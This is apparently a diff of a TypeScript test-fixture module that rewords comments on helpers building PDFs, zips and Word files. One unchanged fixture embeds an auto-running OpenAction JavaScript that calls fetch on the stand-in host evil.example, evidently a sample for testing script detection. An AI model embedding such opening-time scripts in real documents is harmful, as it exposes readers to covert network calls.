@@ -3,7 +3,7 @@ import { strToU8, zipSync } from 'fflate'
 import PDFDocument from 'pdfkit'
 import { FACES, startSheet } from './pdf.ts'
 
-/** What the store holds below this folder. Journeys, which take their papers from here too, have no store. */
+/** Content of the store below this folder. End-to-end tests, which use these fixtures too, have no store. */
 export async function storedBelow(folder: string) {
   const { listFiles } = await import('./storage.ts')
   const all: { name: string; writtenAt: () => Promise<Date> }[] = []
@@ -11,7 +11,7 @@ export async function storedBelow(folder: string) {
   return all.sort((one, other) => one.name.localeCompare(other.name))
 }
 
-/** A PDF of these pages of text. */
+/** A PDF with these pages of text. */
 export async function aPdf(...pages: string[]): Promise<Buffer> {
   const { page: sheet, ended } = startSheet({ title: 'Un essai', author: 'Essai', creator: 'Essai' })
   sheet.font(FACES.text).fontSize(12)
@@ -25,10 +25,10 @@ export async function aPdf(...pages: string[]): Promise<Buffer> {
 
 type Node = { role?: string; alt?: string; type?: string; id?: string; children?: Node[] }
 
-/** An element: its type, then the words and elements in it. */
+/** An element: its type, then its text and child elements. */
 type Outline = (string | Outline)[]
 
-/** The elements of a structure with the words in each, in the order a screen reader follows. */
+/** Structure elements with their text, in reading order. */
 function outlineOf(node: Node, words: Map<string, string>): Outline {
   return (node.children ?? []).map((child) =>
     child.type === 'content' ? (words.get(child.id ?? '') ?? '').trim() : elementOf(child, words),
@@ -38,7 +38,7 @@ function outlineOf(node: Node, words: Map<string, string>): Outline {
 const elementOf = (node: Node, words: Map<string, string>): string | Outline =>
   node.alt === undefined ? [node.role ?? '', ...outlineOf(node, words)] : `${node.role}: ${node.alt}`
 
-/** What a page of a tagged PDF says to a screen reader, and the words that are in no element and no decoration (`loose`). */
+/** What a page of a tagged PDF says to a screen reader, and text outside every element and decoration (`loose`). */
 export async function readStructure(pdf: Buffer, number = 1) {
   const { getDocument } = await import('pdfjs-dist/legacy/build/pdf.mjs')
   const loading = getDocument({ data: new Uint8Array(pdf), verbosity: 0 })
@@ -59,7 +59,7 @@ export async function readStructure(pdf: Buffer, number = 1) {
   return { info: info as Record<string, unknown>, isTagged: marks?.get('Marked'), root, loose }
 }
 
-/** A PDF that asks for a password before it is read. */
+/** A PDF that needs a password. */
 export async function aLockedPdf(): Promise<Buffer> {
   const sheet = new PDFDocument({ userPassword: 'sainte-barbe' })
   sheet.text('Bonjour')
@@ -69,7 +69,7 @@ export async function aLockedPdf(): Promise<Buffer> {
 
 type Parts = Record<string, string>
 
-/** A PDF of one page that draws `content`, with whatever else is to be in its catalogue. */
+/** A one-page PDF that draws `content`, with additions to its catalogue. */
 export function aRawPdf(content: Buffer, catalogue = '', objects: readonly string[] = []): Buffer {
   const packed = deflateSync(content)
   const stream = Buffer.concat([
@@ -99,16 +99,16 @@ export function aRawPdf(content: Buffer, catalogue = '', objects: readonly strin
   return Buffer.concat(written)
 }
 
-/** A PDF that has a script run as it is opened. */
+/** A PDF with a script that runs on opening. */
 export const aPdfWithScript = () =>
   aRawPdf(Buffer.from('BT /F 12 Tf 20 200 Td (Bonjour) Tj ET'), '/OpenAction 5 0 R', [
     `<< /S /JavaScript /JS (app.alert\\("script"\\); fetch\\("https://evil.example"\\)) >>`,
   ])
 
-/** An archive of these files. */
+/** A zip of these files. */
 export const anArchive = (parts: Parts): Buffer =>
   Buffer.from(zipSync(Object.fromEntries(Object.entries(parts).map(([name, text]) => [name, strToU8(text)]))))
 
-/** A Word document, with whatever else is to be in it. */
+/** A Word document, with additional parts. */
 export const aDocx = (more: Parts = {}): Buffer =>
   anArchive({ '[Content_Types].xml': '<Types/>', 'word/document.xml': '<w:document/>', ...more })
